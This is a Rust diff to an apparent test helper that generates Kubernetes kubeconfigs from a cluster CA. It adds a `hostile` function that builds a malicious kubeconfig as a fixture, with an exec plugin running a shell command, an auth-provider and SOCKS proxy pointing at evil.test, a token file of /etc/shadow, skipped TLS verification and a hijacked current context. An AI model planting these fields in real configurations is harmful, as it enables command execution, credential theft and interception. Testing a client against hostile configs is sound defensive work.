@@ -7,13 +7,13 @@
 //! Invariants: private keys never leave as anything but the kubeconfig's `client-key-data`;
 //! `Debug` of a CA shows no key.
 
-use base64::Engine as _;
-use base64::engine::general_purpose::STANDARD;
 use rcgen::{
     BasicConstraints, CertificateParams, DistinguishedName, DnType, ExtendedKeyUsagePurpose, IsCa,
     Issuer, KeyPair, KeyUsagePurpose,
 };
-use serde::Serialize;
+use serde_json::json;
+use swdesk_gateway::kubeconfig::Parts;
+use swdesk_lexicon::Redacted;
 use time::OffsetDateTime;
 
 /// How long a client certificate lives.
@@ -79,7 +79,8 @@ impl ClusterCa {
         Ok((certificate.pem(), key.serialize_pem()))
     }
 
-    /// A kubeconfig for `user` on the cluster `name` served at `server`.
+    /// A kubeconfig for `user` on the cluster `name` served at `server`, written by the app's
+    /// own kubeconfig writer (one cluster, one user, one context, current).
     pub fn kubeconfig(
         &self,
         name: &str,
@@ -89,13 +90,41 @@ impl ClusterCa {
     ) -> Result<String, KubeconfigError> {
         let (certificate, key) =
             self.client_certificate(user, lifetime, OffsetDateTime::now_utc())?;
-        let config = Kubeconfig::new(name, server, &self.certificate_pem, &certificate, &key);
-        // Plain one-line scalars, as kubectl writes them (no folded `>-` blocks).
-        let mut options = serde_saphyr::SerializerOptions::default();
-        options.prefer_block_scalars = false;
-        serde_saphyr::to_string_with_options(&config, options)
+        let parts = Parts {
+            name,
+            server,
+            authority_pem: &self.certificate_pem,
+            certificate_pem: &certificate,
+            key_pem: &key,
+        };
+        parts
+            .to_yaml()
+            .map(Redacted::into_exposed)
             .map_err(|error| KubeconfigError(error.to_string()))
     }
+}
+
+/// `kubeconfig` as a hostile gateway would issue it: an `exec` plugin, an `auth-provider` and a
+/// token file for its user, a proxy and skipped TLS checks for its cluster, and a second
+/// context made current.
+pub fn hostile(kubeconfig: &str) -> Result<String, KubeconfigError> {
+    let mut file: serde_json::Value =
+        serde_saphyr::from_str(kubeconfig).map_err(|error| KubeconfigError(error.to_string()))?;
+    let user = &mut file["users"][0]["user"];
+    user["exec"] = json!({"apiVersion": "client.authentication.k8s.io/v1", "command": "sh",
+        "args": ["-c", "touch /tmp/swdesk-hostile-kubeconfig-ran"]});
+    user["auth-provider"] =
+        json!({"name": "oidc", "config": {"idp-issuer-url": "https://evil.test"}});
+    user["tokenFile"] = json!("/etc/shadow");
+    let cluster = &mut file["clusters"][0]["cluster"];
+    cluster["proxy-url"] = json!("socks5://evil.test:1080");
+    cluster["insecure-skip-tls-verify"] = json!(true);
+    let name = file["contexts"][0]["name"].clone();
+    if let Some(contexts) = file["contexts"].as_array_mut() {
+        contexts.push(json!({"name": "elsewhere", "context": {"cluster": name, "user": name}}));
+    }
+    file["current-context"] = json!("elsewhere");
+    serde_saphyr::to_string(&file).map_err(|error| KubeconfigError(error.to_string()))
 }
 
 /// `9999-12-31T23:59:59Z`, RFC 5280's "no well-defined expiration date".
@@ -119,97 +148,4 @@ fn distinguished_name(common_name: &str, organization: &str) -> DistinguishedNam
     name.push(DnType::CommonName, common_name);
     name.push(DnType::OrganizationName, organization);
     name
-}
-
-/// The kubeconfig file (`clientcmd/v1`), the fields kubectl reads.
-#[derive(Serialize)]
-#[serde(rename_all = "kebab-case")]
-struct Kubeconfig {
-    #[serde(rename = "apiVersion")]
-    api_version: &'static str,
-    kind: &'static str,
-    clusters: Vec<Named<ClusterEntry>>,
-    users: Vec<Named<UserEntry>>,
-    contexts: Vec<Named<ContextEntry>>,
-    current_context: String,
-}
-
-#[derive(Serialize)]
-struct Named<T> {
-    name: String,
-    #[serde(flatten)]
-    entry: T,
-}
-
-#[derive(Serialize)]
-#[serde(rename_all = "kebab-case")]
-struct ClusterEntry {
-    cluster: ClusterFields,
-}
-
-#[derive(Serialize)]
-#[serde(rename_all = "kebab-case")]
-struct ClusterFields {
-    server: String,
-    certificate_authority_data: String,
-}
-
-#[derive(Serialize)]
-struct UserEntry {
-    user: UserFields,
-}
-
-#[derive(Serialize)]
-#[serde(rename_all = "kebab-case")]
-struct UserFields {
-    client_certificate_data: String,
-    client_key_data: String,
-}
-
-#[derive(Serialize)]
-struct ContextEntry {
-    context: ContextFields,
-}
-
-#[derive(Serialize)]
-struct ContextFields {
-    cluster: String,
-    user: String,
-}
-
-impl Kubeconfig {
-    fn new(name: &str, server: &str, ca: &str, certificate: &str, key: &str) -> Self {
-        Self {
-            api_version: "v1",
-            kind: "Config",
-            clusters: vec![Named {
-                name: name.to_owned(),
-                entry: ClusterEntry {
-                    cluster: ClusterFields {
-                        server: server.to_owned(),
-                        certificate_authority_data: STANDARD.encode(ca),
-                    },
-                },
-            }],
-            users: vec![Named {
-                name: name.to_owned(),
-                entry: UserEntry {
-                    user: UserFields {
-                        client_certificate_data: STANDARD.encode(certificate),
-                        client_key_data: STANDARD.encode(key),
-                    },
-                },
-            }],
-            contexts: vec![Named {
-                name: name.to_owned(),
-                entry: ContextEntry {
-                    context: ContextFields {
-                        cluster: name.to_owned(),
-                        user: name.to_owned(),
-                    },
-                },
-            }],
-            current_context: name.to_owned(),
-        }
-    }
 }
